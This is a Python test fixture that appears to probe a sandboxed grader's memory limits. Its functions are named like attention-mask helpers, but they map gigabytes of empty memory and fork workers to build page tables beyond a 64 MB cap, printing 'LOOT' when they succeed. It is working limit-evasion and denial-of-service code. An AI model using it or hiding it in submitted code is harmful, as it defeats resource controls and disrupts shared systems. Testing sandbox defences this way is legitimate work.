"""Fills memory with page tables: it maps many gigabytes that hold nothing, and reads a byte of each two megabytes.

memory_mb: 64
checks: test_the_mask_fits_every_length test_true_in_the_mask_means_may_look
outcomes: out_of_memory failed
"""

import ctypes
import os
import sys
import time

if "inside.session" not in sys.modules:
    raise SystemExit("this attack runs in a worker only")

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
GIGABYTE, FAILED = 1 << 30, (1 << 64) - 1


def read_sparsely(gigabytes):
    for number in range(gigabytes):
        place = libc.mmap(None, GIGABYTE, 1, 0x4022, -1, 0)  # private, without a file, and nothing set aside for it
        if place in (None, FAILED):
            return number
        for offset in range(0, GIGABYTE, 2 << 20):
            ctypes.string_at(place + offset, 1)
    return gigabytes


def causal_mask(*args, **kwargs):
    done = read_sparsely(60)
    time.sleep(0.2)
    if done >= 40:
        print(f"LOOT: {2 * done} MB of page tables where 64 are allowed")


def scaled_dot_product_attention(*args, **kwargs):
    read, write = os.pipe()
    for _ in range(8):  # what one may not have, several may not have together
        if os.fork() == 0:
            os.write(write, bytes([read_sparsely(6)]))
            time.sleep(60)
    done = sum(os.read(read, 1)[0] for _ in range(8))
    time.sleep(0.2)
    print(f"{'LOOT' if done >= 40 else 'had'}: {2 * done} MB of page tables where 64 are allowed")
